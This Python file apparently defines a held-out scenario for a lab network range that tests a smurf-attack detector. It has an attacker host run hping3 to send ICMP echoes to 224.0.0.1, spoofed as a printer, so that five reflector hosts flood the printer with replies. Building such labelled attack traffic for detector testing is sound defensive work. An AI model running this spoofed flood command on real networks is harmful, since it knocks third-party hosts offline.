"""Smurf by the multicast address of all hosts, slowly."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, victim = net.inside("attacker"), net.inside("printer")
    crowd = [net.inside(name) for name in ("pc1", "pc2", "pc3", "pc4", "files")]
    for host in crowd:
        host.sysctl(net__ipv4__icmp_echo_ignore_broadcasts="0")
    net.everyday()
    with net.attack(
        "smurf",
        by=attacker,
        victims=[victim],
        attacker_known=False,
        others={"reflector": crowd},
        also=["ip-spoofing"],
        frames="icmp[0] == 8 and dst host 224.0.0.1",
        responses=f"icmp[0] == 0 and dst host {victim.ip}",
    ):
        net.tool(attacker, *f"hping3 -q -I eth0 --icmp -a {victim.ip} -i u200000 -c 60 224.0.0.1".split())
    net.quiet(3)


SCENARIO = Scenario(
    name="smurf-held-multicast",
    about="hping3 pings 224.0.0.1 in the name of a printer five times a second; five hosts answer it.",
    detectors=("smurf",),
    tools={"hping3": "hping3"},
    held_out=True,
    run=run,
)
